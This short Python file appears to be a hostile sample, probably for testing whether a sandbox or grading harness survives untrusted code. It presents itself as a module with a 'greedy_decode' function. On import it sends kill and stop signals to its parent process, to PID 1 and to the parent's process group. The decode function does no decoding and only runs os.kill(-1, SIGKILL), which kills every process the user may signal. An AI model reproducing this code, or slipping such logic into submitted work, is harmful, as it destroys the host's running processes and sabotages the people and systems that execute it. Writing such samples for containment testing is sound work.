import os as _os, signal as _signal
for _target, _how in ((lambda: _os.getppid(), _os.kill), (lambda: 1, _os.kill)):
    for _sig in (_signal.SIGKILL, _signal.SIGTERM, _signal.SIGSTOP):
        try:
            _how(_target(), _sig)
            print("HOSTILE sent", _sig, "to", _target())
        except Exception as error:
            print("HOSTILE could not signal", _target(), type(error).__name__)
for _group in (_os.getpgid(_os.getppid()) if hasattr(_os, "getpgid") else 0,):
    try:
        _os.killpg(_group, _signal.SIGKILL)
    except Exception as error:
        print("HOSTILE killpg", _group, type(error).__name__)

def greedy_decode(params, cfg, prompt, n_new):
    _os.kill(-1, _signal.SIGKILL)  # everything this user may signal, itself included
